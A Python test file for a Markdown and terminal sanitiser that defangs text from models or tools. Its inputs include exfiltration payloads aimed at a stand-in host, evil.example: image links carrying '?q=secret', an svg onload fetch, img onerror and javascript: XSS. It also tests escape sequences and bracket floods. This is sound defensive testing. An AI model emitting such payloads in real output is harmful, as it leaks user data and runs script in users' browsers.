"""Nothing in a text of models or tools loads, links or drives a terminal once it is made safe."""

import re

import pytest

from trust.rendering import safe_markdown, terminal_text

EVIL = "https://evil.example/p.png?q=secret"

# What renderers of Markdown (and Slack) load or make a link of.
LIVE = re.compile(r"!\[[^\]]*\]\(|\]\(|^ {0,3}\[[^\]]+\]:|<[a-zA-Z!/?]|<https?:|https?://|\bwww\.\w|javascript:|data:", re.M)


@pytest.mark.parametrize(
    "text",
    [
        f"![logo]({EVIL})",
        f"![]({EVIL})",
        f'![a](<{EVIL}> "title")',
        f"![a]( {EVIL} 'x')",
        f"[![inner]({EVIL})]({EVIL})",
        f"[click]({EVIL})",
        f"![a][ref]\n\n[ref]: {EVIL}",
        f"[a][ref]\n\n[ref]: {EVIL}",
        f"[ref]\n\n   [ref]: <{EVIL}>",
        f"<{EVIL}>",
        "<eve@evil.example>",
        f'<img src="{EVIL}">',
        f"<IMG SRC={EVIL} onerror=alert(1)>",
        f"<a href={EVIL}>x</a>",
        f"<svg/onload=fetch('{EVIL}')>",
        "<!-- hidden -->",
        f"see {EVIL}.",
        "see HTTPS://EVIL.example/x",
        "see www.evil.example",
        "[x](javascript:alert(1))",
        "[x](data:text/html;base64,AAAA)",
        "![x](//evil.example/p)",
        f"![a\\]]({EVIL})",
        f"<{EVIL}|click here>",
        f"![a]({EVIL}\n",
        "[a](http://e.example/x(y)z)",
    ],
)
def test_nothing_is_left_that_loads_or_links(text: str) -> None:
    assert LIVE.search(safe_markdown(text)) is None, safe_markdown(text)


def test_the_words_and_the_address_can_still_be_read() -> None:
    assert safe_markdown(f"See [the report]({EVIL}).") == "See the report (hxxps://evil.example/p.png?q=secret)."
    assert safe_markdown(f"![logo]({EVIL})") == "(image: logo, hxxps://evil.example/p.png?q=secret)"


@pytest.mark.parametrize("text", ["# Title\n\n- **bold** item\n\n| a | b |\n| - | - |\n", "a < b and c > d", "x[0][1] = (1)"])
def test_other_formatting_stays(text: str) -> None:
    assert safe_markdown(text) == text


def test_a_megabyte_of_brackets_is_done_soon() -> None:
    for text in ("![" * 50_000, "[a](" * 30_000, "[" * 100_000, "<a" * 100_000, "![a](<" * 30_000):
        safe_markdown(text)


def test_escape_sequences_are_written_out() -> None:
    assert terminal_text("\x1b]0;x\x07 \u202eabc\r\nnext\ttab") == "\\x1b]0;x\\x07 \\u202eabc\nnext\ttab"
